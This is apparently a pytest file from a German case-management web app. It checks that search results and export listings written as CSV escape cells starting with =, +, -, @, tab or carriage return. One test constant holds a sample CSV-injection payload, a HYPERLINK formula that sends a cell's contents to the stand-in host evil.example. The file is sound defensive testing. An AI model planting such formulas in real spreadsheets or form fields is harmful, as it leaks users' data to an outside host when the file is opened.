"""Every CSV the system writes neutralises spreadsheet formulas (CSV injection): titles and file names are
user input, and a cell starting with = + - @ TAB or CR would run when the file is opened in Excel."""
from __future__ import annotations

import csv
import io
import zipfile

from tests.helpers import create_case, pdf_bytes, upload
from workflows.spreadsheet import safe_cell

EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_safe_cell() -> None:
    for bad in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]:
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Rechnung =1") == "Rechnung =1" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_search_csv_and_export_listing_neutralise_formulas(client, town) -> None:
    h = town.auth("anna")
    case = create_case(client, h, title=EVIL)
    resp = upload(client, h, case["id"], pdf_bytes(text="Quastenflosser im Aquarium"), filename="-2+3.pdf",
                  title="@Rechnung")
    assert resp.status_code == 201, resp.get_json()

    found = client.get("/api/v1/search.csv", headers=h, query_string={"q": "Quastenflosser"})
    assert found.status_code == 200
    rows = _rows(found.data.decode("utf-8"))
    assert len(rows) == 2, rows
    hit = dict(zip(rows[0], rows[1]))
    assert hit["Betreff der Akte"] == "'" + EVIL and hit["Dokument"] == "'@Rechnung"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])

    export = client.post("/api/v1/exports", json={"case_ids": [case["id"]]}, headers=town.auth("rita"))
    assert export.status_code == 200
    with zipfile.ZipFile(io.BytesIO(export.data)) as zf:
        listing = next(n for n in zf.namelist() if n.endswith("data/cases.csv"))
        rows = _rows(zf.read(listing).decode("utf-8"))
    row = dict(zip(rows[0], rows[1]))
    assert row["Betreff"] == "'" + EVIL and row["Dokument"] == "'@Rechnung" and row["Dateiname"] == "'-2+3.pdf"
    assert row["Version"] == "1"  # numbers stay numbers
